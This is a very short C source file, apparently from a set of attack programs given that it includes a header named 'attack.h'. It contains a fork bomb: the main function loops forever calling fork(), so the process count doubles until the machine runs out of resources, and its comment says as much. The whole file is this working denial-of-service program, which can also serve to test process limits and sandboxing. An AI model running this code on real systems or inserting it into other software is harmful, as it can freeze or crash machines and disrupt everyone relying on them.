/* Doubles itself for ever. */
#include "attack.h"

int main(void)
{
	for (;;)
		fork();
}
